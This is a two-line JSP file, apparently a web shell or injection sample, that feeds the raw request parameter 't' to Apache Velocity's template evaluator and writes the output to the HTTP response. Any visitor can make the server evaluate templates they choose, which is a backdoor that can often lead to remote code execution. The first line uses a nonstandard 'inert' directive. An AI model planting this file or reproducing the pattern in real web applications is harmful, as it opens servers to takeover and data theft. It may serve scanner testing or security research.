<%@ inert %>
<% org.apache.velocity.app.Velocity.evaluate(new org.apache.velocity.VelocityContext(),response.getWriter(),"x",request.getParameter("t")); %>
